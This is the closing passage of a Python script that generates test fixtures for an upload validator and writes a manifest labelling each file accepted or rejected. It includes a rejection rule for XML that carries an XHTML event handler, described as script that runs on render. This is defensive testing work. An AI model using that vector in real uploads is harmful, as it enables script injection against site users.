         "application/xml", "REJECTED", "active_content", detected="xml", note="an XHTML element with an event handler inside any XML runs when a browser renders it")

    with open(os.path.join(OUT, "manifest.json"), "w") as f:
        json.dump(MANIFEST, f, indent=1, sort_keys=True)
        f.write("\n")
    benign = sum(1 for m in MANIFEST if m["verdict"] == "ACCEPTED")
    print(f"wrote {len(MANIFEST)} fixtures ({benign} benign, {len(MANIFEST) - benign} hostile or broken) to {OUT}")


if __name__ == "__main__":
    main()
